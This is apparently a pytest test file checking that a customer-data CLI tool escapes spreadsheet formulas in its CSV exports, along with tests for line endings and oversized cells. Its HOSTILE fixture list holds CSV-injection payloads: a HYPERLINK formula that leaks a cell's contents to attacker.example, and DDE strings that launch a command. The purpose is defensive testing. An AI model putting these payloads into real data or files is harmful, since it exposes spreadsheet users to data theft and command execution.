"""Every CSV csops writes for a spreadsheet goes through one writer (base.csvfile) that keeps a formula from
running: names from Zendesk and Salesforce such as ``=HYPERLINK(…)`` arrive as text (issue 25, F2). Through the
CLI, against the sandbox; each cell checked against OWASP's rule, not against the writer's code."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from base.csvfile import safe_cell
from tests.conftest import Workspace

TODAY = ("--today", "2026-11-23")
HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP, CSV injection
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def runs_nothing(cell: str) -> bool:
    """A spreadsheet opens this cell as text or as a plain number, never as a formula."""
    return not cell.startswith(FORMULA_START) or bool(NUMBER.fullmatch(cell))


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def hostile_names(ws: Workspace) -> dict[str, str]:
    """Every account and organization named after one of the attacks; account id → its name."""
    data = ws.sandbox.data
    names = {}
    for i, account_id in enumerate(sorted(data.accounts)):
        names[account_id] = data.accounts[account_id]["Name"] = HOSTILE[i % len(HOSTILE)] + f" {i}"
    for i, org in enumerate(sorted(data.organizations)):
        data.organizations[org]["name"] = HOSTILE[i % len(HOSTILE)] + f" org {i}"
    return names


def test_sync_dry_run_csv_escapes_formula_names(ws: Workspace) -> None:
    names = hostile_names(ws)
    out = ws.path / "plan.csv"
    result = ws.cli("sync", "--dry-run", "--csv", str(out), *TODAY)
    assert result.exit_code == 0, result.output
    table = rows(out.read_bytes().decode("utf-8-sig"))  # as written: a bare \r kept
    assert table[0] == ["account_id", "name", "field", "old", "new"] and len(table) > 10
    for row in table[1:]:
        assert all(runs_nothing(c) for c in row), row
        assert row[1] == "'" + names[row[0]]  # the name is all there, as text


def test_report_csv_escapes_formula_segments(ws: Workspace) -> None:
    data = ws.sandbox.data
    hostile = '=HYPERLINK("http://attacker.example","p")'
    for account_id in sorted(data.accounts)[::3]:
        data.accounts[account_id]["Product__c"] = hostile
    assert ws.cli("sync", *TODAY).exit_code == 0
    result = ws.cli("report", "--format", "csv", "--by", "product", "--from", "2026-01-01")
    assert result.exit_code == 0, result.output
    table = rows(result.stdout)
    assert any(r[1] == "'" + hostile for r in table[1:]), "the hostile product is a segment of the report"
    assert all(runs_nothing(c) for r in table for c in r)


def test_orgs_csv_escapes_formula_names(ws: Workspace) -> None:
    hostile_names(ws)
    assert ws.cli("sync", *TODAY).exit_code == 0
    result = ws.cli("orgs", "--unlinked", "--csv")
    assert result.exit_code == 0, result.output
    table = rows(result.stdout)
    assert len(table) > 2 and all(r[2].startswith("'") for r in table[1:])  # every name was an attack
    assert all(runs_nothing(c) for r in table for c in r)


def test_safe_cell_against_the_rule() -> None:
    for text in [*HOSTILE, "=", "-", "+1+1", "-1e3x", "@", "\t", "\r", "\n=1"]:
        assert runs_nothing(str(safe_cell(text))) and str(safe_cell(text)).endswith(text)
    for kept in ["-5", "+3.5", "1e3", "-.5", "株式会社=テスト", "a=b", "", " =1"]:
        assert safe_cell(kept) == kept
    assert safe_cell(-5) == -5 and safe_cell(None) is None


FACTS = "id,product,start,kickoff_done,setup_on,users,seats,tickets_last_30d,arr\n"
FACT_ROWS = ["A1,勤怠管理,2026/10/1,はい,2026/10/8 9:05,40,100,5,\"12,000,000\"", "A2,経費精算,2026-09-01,,,3,10,0,1"]


def rules_eval(tmp_path: Path, text: str) -> tuple[int, str, str]:
    from click.testing import CliRunner

    from csops.cli import cli
    from tests.rules.test_check import write_rules

    facts = tmp_path / "facts.csv"
    facts.write_bytes(text.encode("utf-8"))
    result = CliRunner().invoke(cli, ["rules", "eval", "--rules", str(write_rules(tmp_path)), "--facts", str(facts),
                                      "--today", "2026-11-23", "--json"])
    return result.exit_code, result.stdout, result.stderr


def test_facts_csv_with_mac_line_endings_reads_as_with_any_other(tmp_path: Path) -> None:
    """F13: Excel's "CSV (Macintosh)" ends lines with CR alone; that was exit 70."""
    lf = rules_eval(tmp_path, FACTS + "\n".join(FACT_ROWS) + "\n")
    assert lf[0] == 0, lf[2]
    for ending in ("\r", "\r\n"):
        code, out, err = rules_eval(tmp_path, (FACTS + "\n".join(FACT_ROWS) + "\n").replace("\n", ending))
        assert (code, out) == lf[:2], err


def test_a_cell_past_the_csv_limit_is_a_located_error(tmp_path: Path) -> None:
    """F13: a cell over 128 KiB was exit 70 (csv's field limit)."""
    code, _, err = rules_eval(tmp_path, FACTS + FACT_ROWS[0] + "\n" + "A3,勤怠管理," + "x" * 140_000 + "\n")
    assert code == 78, err
    assert "facts.csv:3: a cell is longer than 131,072 characters" in err and "unexpected" not in err


def test_nps_import_reads_mac_line_endings_and_locates_an_oversized_cell(ws: Workspace, tmp_path: Path) -> None:
    assert ws.cli("sync", *TODAY).exit_code == 0
    account = sorted(ws.sandbox.data.accounts)[0]
    answers = tmp_path / "answers.csv"
    answers.write_bytes(f"account,date,score,comment\r{account},2026-11-01,9,良い\r{account},2026-11-02,3,\r"
                        .encode())
    result = ws.cli("nps", "import", str(answers), "--dry-run", "--json")
    assert result.exit_code == 0, result.output
    assert '"answers": 2' in result.stdout
    answers.write_bytes(f"account,date,score,comment\n{account},2026-11-01,9,{'x' * 140_000}\n".encode())
    result = ws.cli("nps", "import", str(answers), "--dry-run")
    assert result.exit_code == 78, result.output
    assert "answers.csv:2: a cell is longer than 131,072 characters" in result.stderr
